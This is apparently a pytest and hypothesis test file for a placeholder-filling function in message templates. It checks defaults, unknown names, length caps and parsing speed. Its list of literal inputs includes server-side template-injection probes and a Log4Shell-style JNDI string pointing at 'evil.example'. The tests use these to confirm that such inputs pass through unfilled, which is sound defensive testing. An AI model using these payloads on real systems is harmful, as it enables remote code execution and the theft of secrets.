"""Places in messages: what is one, who can fill it, and that nothing else ever happens to a text."""

from __future__ import annotations

import re
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.texts.placeholders import LONGEST, Missing, Place, TooLong, families, fill, first_unknown, is_known, places

VALUES = {"client.name": "Анна", "company": "Ромашка", "deal.title": "Окна", "calendar.next_open": "завтра, 09:00"}

FILLED = [
    ("none", "Здравствуйте!", "Здравствуйте!"),
    ("one", "Здравствуйте, {client.name}!", "Здравствуйте, Анна!"),
    ("spaces", "Здравствуйте, { client.name }!", "Здравствуйте, Анна!"),
    ("a name without parts", "{company}", "Ромашка"),
    ("twice", "{company}, {company}", "Ромашка, Ромашка"),
    ("default unused", '{client.name, default "клиент"}', "Анна"),
    ("default used", '{contact.name, default "клиент"}', "клиент"),
    ("default of nothing", '{contact.name, default ""}!', "!"),
    ("default with spaces", '{contact.name ,  default  "дорогой клиент" }', "дорогой клиент"),
    ("default over lines", '{contact.name, default "a\nb"}', "a\nb"),
]


@pytest.mark.parametrize(("why", "template", "text"), FILLED, ids=[row[0] for row in FILLED])
def test_filling(why: str, template: str, text: str) -> None:
    assert fill(template, VALUES) == text


LITERAL = [
    "{",
    "}",
    "{}",
    "{{}}",
    "{7*7}",
    '{deal.title|attr("x")}',
    '{config["SECRET"]}',
    "{().__class__.__mro__}",
    '{"x"*10**9}',
    "{0.__class__.__init__.__globals__}",
    "{% for x in y %}",
    "<%= 7*7 %>",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "%s %(name)s %n",
    "{client.name!r}",
    "{client.name:>1000000}",
    "{client.first.name}",
    "{имя}",
    "{client .name}",
    "{client.name, default клиент}",
]


@pytest.mark.parametrize("text", LITERAL)
def test_braces_of_another_form_are_words(text: str) -> None:
    assert fill(text, VALUES) == text
    assert first_unknown(text) is None


def test_a_place_inside_a_default_is_a_place_of_its_own() -> None:
    assert fill('{client.name, default "{company}"}', VALUES) == '{client.name, default "Ромашка"}'


KNOWN = [
    "client.name",
    "client.first_name",
    "client.last_name",
    "contact.name",
    "contact.ufCrm_1",
    "contact.UF_CRM_1",
    "company",
    "company.title",
    "deal.title",
    "lead.title",
    "item.opportunity",
    "client.phone",
    "operator.name",
    "operator.position",
    "line.name",
    "calendar.next_open",
]
UNKNOWN = [
    "client",
    "deal",
    "name",
    "clinet.name",
    "deal.__class__",
    "contact.__init__",
    "client.__dict__",
    "operator.phone",
    "line.hours",
    "calendar.next_close",
    "calendar",
]


@pytest.mark.parametrize("name", KNOWN)
def test_known_names(name: str) -> None:
    assert is_known(name)
    assert first_unknown(f"Здравствуйте, {{{name}}}") is None


@pytest.mark.parametrize("name", UNKNOWN)
def test_a_typo_never_reaches_a_client(name: str) -> None:
    assert first_unknown(f"{{client.name}} {{{name}}}") == name


@pytest.mark.parametrize("name", ["sla.minutes_left", "sla.deadline", "promise.deadline"])
def test_what_nothing_fills_yet_is_refused(name: str) -> None:
    assert first_unknown(f"Ответим до {{{name}}}") == name


def test_a_missing_value_is_named() -> None:
    with pytest.raises(Missing, match=r"contact\.name"):
        fill("Здравствуйте, {contact.name}", VALUES)
    with pytest.raises(Missing):
        fill("{client.name}", {"client.name": ""})


def test_a_missing_value_may_be_blank() -> None:
    assert fill("Здравствуйте, {contact.name}!", VALUES, blank=True) == "Здравствуйте, !"
    assert fill('{contact.name, default "клиент"}', {}, blank=True) == "клиент"


def test_places_and_families() -> None:
    template = 'Из {company}: {client.name, default "вы"} и {deal.title}'
    assert list(places(template)) == [
        Place("company", None),
        Place("client.name", "вы"),
        Place("deal.title", None),
    ]
    assert families(template) == {"company", "client", "deal"}


def test_values_are_never_scanned_again() -> None:
    assert fill("{client.name}", {"client.name": "{company}", "company": "secret"}) == "{company}"


def test_the_cap() -> None:
    assert len(fill("a" * LONGEST, {})) == LONGEST
    with pytest.raises(TooLong):
        fill("a" * (LONGEST + 1), {})
    with pytest.raises(TooLong):
        fill("{client.name}" * 2, {"client.name": "a" * (LONGEST // 2 + 1)})


NAMES = st.sampled_from(["client.name", "company", "deal.title", "no.such", "item.x"])
PIECES = st.one_of(
    st.text(max_size=10),
    NAMES.map(lambda name: f"{{{name}}}"),
    st.tuples(NAMES, st.text(alphabet=st.characters(exclude_characters='"{}'), max_size=5)).map(
        lambda pair: f'{{{pair[0]}, default "{pair[1]}"}}'
    ),
    st.sampled_from(["{", "}", "{{", "}}", "{7*7}", "$result[x]", "\\1", "\\g<0>"]),
)
TEMPLATES = st.lists(PIECES, max_size=8).map("".join)


@given(TEMPLATES, st.dictionaries(NAMES, st.text(max_size=20), max_size=5))
def test_only_words_of_the_template_and_values_come_out(template: str, values: dict[str, str]) -> None:
    """Cut the template at its places with a reading of our own, and expect the pieces in order."""
    pattern = r'\{\s*((?:\w+\.)?\w+)\s*(?:,\s*default\s+"([^"{}]*)"\s*)?\}'
    expected, at = [], 0
    for match in re.finditer(pattern, template, re.ASCII):
        expected += [template[at : match.start()], values.get(match.group(1)) or match.group(2) or ""]
        at = match.end()
    assert fill(template, values, blank=True) == "".join([*expected, template[at:]])


@given(TEMPLATES, st.dictionaries(NAMES, st.text(alphabet=st.characters(exclude_characters="{}"), max_size=9)))
def test_filling_twice_is_filling_once(template: str, values: dict[str, str]) -> None:
    """Holds for templates whose own braces do not close around a value."""
    pieces = re.split(r"(\{[^{}]*\})", template)
    plain = "".join(piece if piece.startswith("{") else piece.replace("{", "").replace("}", "") for piece in pieces)
    once = fill(plain, values, blank=True)
    assert fill(once, values, blank=True) == once


@pytest.mark.parametrize("piece", ["{", "{ ", "{a", "{a.", '{a, default "', "{a,", "a}", "{a.b ,"])
def test_no_text_takes_long(piece: str) -> None:
    text = piece * (200_000 // len(piece))
    started = process_time()
    first_unknown(text)
    list(places(text))
    assert process_time() - started < 2
    started = process_time()
    first_unknown("{" + " " * 100_000)
    first_unknown("{" + "a" * 100_000)
    first_unknown("{a" + " " * 100_000)
    first_unknown('{a, default "' + "x" * 100_000)
    assert process_time() - started < 2
